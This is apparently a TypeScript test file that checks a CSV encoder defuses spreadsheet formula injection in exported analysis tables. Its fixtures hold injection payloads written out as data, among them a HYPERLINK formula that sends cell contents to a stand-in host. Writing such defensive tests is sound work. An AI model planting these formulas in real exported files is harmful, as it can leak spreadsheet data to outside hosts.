import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { analyze } from '../src/core/analysis/analyze'
import { crossValidation, crossValidationCsv } from '../src/core/analysis/crossValidation'
import { analysisTables } from '../src/core/analysis/tables'
import { humanBaseline, humanBaselineTable } from '../src/core/analysis/baseline'
import type { PersonAttempt } from '../src/core/analysis/people'
import { parseResponses } from '../src/core/results/responses'
import { csvCell, toCsv } from '../src/core/results/table'
import type { Task } from '../src/core/dataset/types'
import { ROOT, TOOLS, fixtureFiles } from './fixtures'
import { cliArgs } from './support/cli'

/** Cells a spreadsheet would run as formulas, as a person's name or comment in an imported file could hold them. */
const FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1+1', '-1+2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']

describe('a CSV cell', () => {
  it('shows a cell that starts like a formula as text: a single quote before it, the whole cell quoted', () => {
    expect(FORMULAS.map(csvCell)).toEqual([
      `"'=HYPERLINK(""http://x.test/?""&A1,""open"")"`,
      `"'+1+1"`,
      `"'-1+2"`,
      `"'@SUM(A1:A9)"`,
      `"'\t=1+1"`,
      `"'\r=1+1"`,
    ])
  })

  it('keeps a plain decimal number a number, negative ones included; anything else starting with - is text', () => {
    expect([-3.5, '-3.5', 0, '42', '0.25', -12].map(csvCell)).toEqual(['-3.5', '-3.5', '0', '42', '0.25', '-12'])
    expect(['-3.5x', '-', '--', '-1e3', '-Infinity', -Infinity, '- 3'].map(csvCell)).toEqual([
      `"'-3.5x"`,
      `"'-"`,
      `"'--"`,
      `"'-1e3"`,
      `"'-Infinity"`,
      `"'-Infinity"`,
      `"'- 3"`,
    ])
  })

  it('leaves other cells as RFC 4180 has them', () => {
    expect(['ann', '李雷', 'a,b', 'say "hi"', 'two\nlines', ' =1', "'=1", 'a=b', '70.0 ± 4.3', ''].map(csvCell)).toEqual([
      'ann',
      '李雷',
      '"a,b"',
      '"say ""hi"""',
      '"two\nlines"',
      ' =1',
      "'=1",
      'a=b',
      '70.0 ± 4.3',
      '',
    ])
    expect(toCsv([['name', 'score'], ['=cmd', -3.5]])).toBe(`name,score\r\n"'=cmd",-3.5\r\n`)
  })
})

const task = (id: string, type: string): Task => ({
  id,
  type,
  instruction: `Do ${id}`,
  messages: [{ role: 'user', content: `Do ${id}` }],
  answer: [],
  freeParams: [],
  reasoningPath: '',
  distractors: '',
  line: 1,
})

/** People whose names and comments came from an imported file. */
function attempts(): PersonAttempt[] {
  const base = { finished: true, started: 1, ended: 2, elapsedMs: 60_000, calls: [], retrievals: 2 }
  return [
    { ...base, attemptId: 'a', taskId: '推理1', actor: '=HYPERLINK("http://x.test","x")', correct: true, errorType: null, flags: [] },
    { ...base, attemptId: 'b', taskId: '推理1', actor: '@evil', correct: false, errorType: 'wrong_value', flags: [{ kind: 'ambiguous', comment: '=1+1', at: 3 }] },
  ]
}

describe('every CSV the page writes', () => {
  it('the cross-validation list escapes names in their cells', () => {
    const lines = crossValidationCsv(crossValidation([task('推理1', '推理')], attempts())).split('\r\n')
    expect(lines[1]).toBe(
      `推理1,推理,wrong,Do 推理1,2,1,1,yes,"'=HYPERLINK(""http://x.test"",""x""): correct; @evil: wrong (wrong_value)","'@evil [ambiguous]: =1+1"`,
    )
  })

  it('the human baseline escapes each person', () => {
    const tasks = [task('推理1', '推理')]
    const csv = toCsv(humanBaselineTable(humanBaseline(tasks, attempts())).rows).split('\r\n')
    expect(csv.slice(1, 3).map((l) => l.split(',')[0])).toEqual([`"'=HYPERLINK(""http://x.test""`, `"'@evil"`])
    expect(csv[1]).toMatch(/^"'=HYPERLINK\(""http:\/\/x\.test"",""x""\)",1,/)
  })

  it("the analysis tables (the page's and npm run analyze's) escape row labels", () => {
    const tasks = [task('推理1', '推理')]
    const { lines } = parseResponses(JSON.stringify({ id: '推理1', run: 0, model: '@evil', calls: [] }) + '\n')
    for (const table of analysisTables(analyze(tasks, TOOLS, lines), tasks)) {
      const csv = toCsv(table.rows).split('\r\n')
      if (table.name === 'per_task') expect(csv[0]).toBe(`task,type,"'@evil · paginated"`)
      else if (table.name !== 'by_setting') expect(csv[1]?.startsWith(`"'@evil`), `${table.name}: ${csv[1]}`).toBe(true)
    }
  })

  it('npm run analyze writes its tables through the same cell encoder', () => {
    const dir = mkdtempSync(join(tmpdir(), 'csv-analyze-'))
    for (const [name, text] of Object.entries(fixtureFiles())) writeFileSync(join(dir, name), text)
    const line = { id: '推理1', run: 0, model: '=HYPERLINK("http://x.test","x")', calls: [{ name: 'Phone_Call', arguments: { telephone: '13933334444' } }] }
    writeFileSync(join(dir, 'response.jsonl'), JSON.stringify(line) + '\n')
    const out = join(dir, 'out')
    const r = spawnSync(
      process.execPath,
      [...cliArgs('cli/analyze.ts'), '--input_data', join(dir, 'input_data.jsonl'), '--out', out, join(dir, 'response.jsonl')],
      { cwd: ROOT, encoding: 'utf8' },
    )
    expect(r.stderr).toBe('')
    expect(r.status).toBe(0)
    const table2 = readFileSync(join(out, 'table2.csv'), 'utf8').split('\r\n')
    expect(table2[1]).toMatch(/^"'=HYPERLINK\(""http:\/\/x\.test"",""x""\)[^"]*",/)
  })
})
